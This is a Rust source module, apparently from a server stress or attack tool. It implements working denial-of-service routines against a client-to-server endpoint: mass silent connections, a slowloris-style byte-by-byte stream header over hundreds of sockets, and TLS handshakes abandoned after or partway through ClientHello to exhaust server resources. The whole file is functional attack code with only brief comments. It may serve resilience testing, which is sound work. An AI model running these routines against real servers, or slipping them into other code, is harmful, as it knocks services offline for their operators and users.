//! Many connections that say nothing, or next to nothing, and TLS handshakes that stop half way.

use std::io::{self, ErrorKind, Read, Write};
use std::net::TcpStream;
use std::time::Instant;

use openssl::ssl::SslStream;

use crate::Ground;
use crate::common::client::header;
use crate::wire::{Origin, connect, ssl};

/// Connections that open streams as slowly as they may.
const SLOW: usize = 500;
/// Handshakes that are held; the oldest gives way to the next one.
const HANDSHAKES: usize = 500;

/// As many connections as there are places, all silent.
pub fn silent(ground: &Ground, origin: Origin, until: Instant) -> u64 {
    let mut held = Vec::new();
    while Instant::now() < until && held.len() < ground.connections {
        match connect(origin.address(held.len()), ground.c2s) {
            Ok(socket) => held.push(socket),
            Err(_) => break,
        }
    }
    wait(until);
    held.len() as u64
}

/// A stream header, byte by byte, from many at once. The pause between two bytes is what it takes
/// to come round: a minute would be no other thing for the server, which counts from the start.
pub fn slow(ground: &Ground, origin: Origin, until: Instant) -> u64 {
    let open = |number| connect(origin.address(number), ground.c2s);
    let mut held: Vec<TcpStream> = (0..SLOW).map_while(|number| open(number).ok()).collect();
    let mut blows = 0;
    for byte in header("example.org").bytes().cycle() {
        if Instant::now() >= until {
            break;
        }
        held.retain_mut(|socket| socket.write_all(&[byte]).is_ok());
        blows += held.len() as u64;
        if held.is_empty() {
            break;
        }
    }
    wait(until);
    blows
}

/// Handshakes that end after ClientHello: the server has done its costly part.
pub fn after_hello(ground: &Ground, origin: Origin, until: Instant) -> u64 {
    handshakes(ground, origin, until, |hello| hello)
}

/// Handshakes that end in the middle of ClientHello.
pub fn within_hello(ground: &Ground, origin: Origin, until: Instant) -> u64 {
    handshakes(ground, origin, until, |hello| &hello[..hello.len() / 2])
}

fn handshakes(ground: &Ground, origin: Origin, until: Instant, part: fn(&[u8]) -> &[u8]) -> u64 {
    let hello = client_hello();
    let (mut held, mut blows) = (std::collections::VecDeque::new(), 0);
    while Instant::now() < until {
        let Ok(mut socket) = connect(origin.address(blows), ground.c2s_tls) else {
            continue;
        };
        if socket.write_all(part(&hello)).is_ok() {
            blows += 1;
            held.push_back(socket);
        }
        if held.len() > HANDSHAKES {
            held.pop_front();
        }
    }
    blows as u64
}

/// Keeps what is held until the attack's time is over.
fn wait(until: Instant) {
    std::thread::sleep(until.saturating_duration_since(Instant::now()));
}

/// Takes what TLS writes, and has nothing to read.
struct Sink(Vec<u8>);

impl Read for Sink {
    fn read(&mut self, _: &mut [u8]) -> io::Result<usize> {
        Err(ErrorKind::WouldBlock.into())
    }
}

impl Write for Sink {
    fn write(&mut self, bytes: &[u8]) -> io::Result<usize> {
        self.0.extend_from_slice(bytes);
        Ok(bytes.len())
    }

    fn flush(&mut self) -> io::Result<()> {
        Ok(())
    }
}

fn client_hello() -> Vec<u8> {
    let mut stream = SslStream::new(ssl(), Sink(Vec::new())).unwrap();
    stream.connect().expect_err("nobody answers");
    stream.get_ref().0.clone()
}
